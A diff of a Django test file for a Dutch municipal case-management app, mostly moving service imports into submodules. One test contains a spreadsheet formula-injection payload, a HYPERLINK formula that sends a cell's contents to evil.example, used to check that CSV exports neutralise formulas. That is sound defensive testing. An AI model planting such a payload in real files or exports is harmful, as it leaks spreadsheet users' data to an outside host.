@@ -11,7 +11,7 @@ from django.urls import reverse
 from django.utils import timezone
 
 from goedwonen.casussen.models import Casus, Taak
-from goedwonen.casussen.services import taak_create
+from goedwonen.casussen.services.case_tasks import taak_create
 from goedwonen.core.policy import Capability
 from tests.scenario import share_case
 
@@ -204,7 +204,7 @@ def test_the_export_lets_no_formula_through(client, triaged, regisseur):
     import csv
     import io
 
-    from goedwonen.casussen.services import casus_create
+    from goedwonen.casussen.services.cases import casus_create
 
     title = '=HYPERLINK("https://evil.example/?d="&A1,"Open de casus")'
     casus = casus_create(
@@ -359,8 +359,8 @@ def test_a_second_open_case_on_an_address_needs_a_confirmation(client, casus, re
 
 
 def test_a_case_from_a_report_warns_of_the_open_case_on_its_address(client, triaged, regisseur):
-    from goedwonen.casussen.services import casus_create
-    from goedwonen.intake.services import melding_register
+    from goedwonen.casussen.services.cases import casus_create
+    from goedwonen.intake.services.registration import melding_register
     from tests.scenario import CARNISSE_10
 
     # A second report on the address, registered before its case was made (a report that
@@ -403,9 +403,9 @@ def test_closing_a_case_warns_of_open_tasks_and_tells_the_reporter(
     from django.core import mail
     from django.core.cache import cache
 
-    from goedwonen.casussen.services import casus_create
+    from goedwonen.casussen.services.cases import casus_create
     from goedwonen.intake.models import Melding
-    from goedwonen.intake.services import melding_triage
+    from goedwonen.intake.services.triage import melding_triage
 
     cache.clear()  # the reporting point's rate limit
     reported = client.post(
@@ -489,7 +489,7 @@ def test_standard_tasks_on_the_page_name_the_organisation_to_share_with_first(
     client, casus, regisseur
 ):
     from goedwonen.accounts.models import Organisatie, Organisatiesoort
-    from goedwonen.casussen.services import taak_templates
+    from goedwonen.casussen.services.case_tasks import taak_templates
 
     dv = Organisatie.objects.create(
         code="dv", naam="Dienstverlening", soort=Organisatiesoort.INTERN
